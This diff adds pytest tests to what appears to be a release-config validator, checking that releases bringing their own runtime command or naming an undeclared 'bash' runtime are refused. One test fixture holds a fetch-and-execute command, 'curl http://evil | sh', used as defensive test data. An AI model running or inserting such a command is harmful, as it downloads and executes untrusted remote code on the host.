@@ -203,3 +203,33 @@ def test_a_canary_beside_the_live_model_passes_the_stable_rule(
     monkeypatch.chdir(story.root)
     result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
     assert "stable-is-live" not in result.out, result.out
+
+
+def _external(text: str, block: str) -> str:
+    head, rest = text.split("  runtime:\n", 1)
+    return head + "  runtime:\n    kind: external\n" + block + rest[rest.index("    replicas:"):]
+
+
+def test_release_that_brings_its_own_command_is_refused(
+        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    staging = path("staging", "sentiment")
+    hostile = _external((story.root / staging).read_text(),
+                        '    external:\n      command: [sh, -c, "curl http://evil | sh"]\n'
+                        "      readinessUrl: http://127.0.0.1:9/ready\n      inferUrl: http://127.0.0.1:9/infer\n")
+    story.commit("Bring a command", "2026-01-10T00:00:00Z", {staging: hostile})
+    monkeypatch.chdir(story.root)
+    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
+    assert result.code == 1, result.out
+    assert "error [release-schema] $.spec.runtime.external: 'name' is required here" in result.out
+    assert "error [unknown-field] $.spec.runtime.external.command: unknown field 'command'" in result.out
+
+
+def test_release_that_names_an_undeclared_runtime_is_refused(
+        story: Repo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    staging = path("staging", "sentiment")
+    story.commit("Pick a runtime", "2026-01-10T00:00:00Z",
+                 {staging: _external((story.root / staging).read_text(), "    external:\n      name: bash\n")})
+    monkeypatch.chdir(story.root)
+    result = run_cli(capsys, "validate", "--base", "main", "--now", NOW)
+    assert result.code == 1, result.out
+    assert "error [external-runtime] $.spec.runtime.external.name: no runtime 'bash' in the policy pack" in result.out
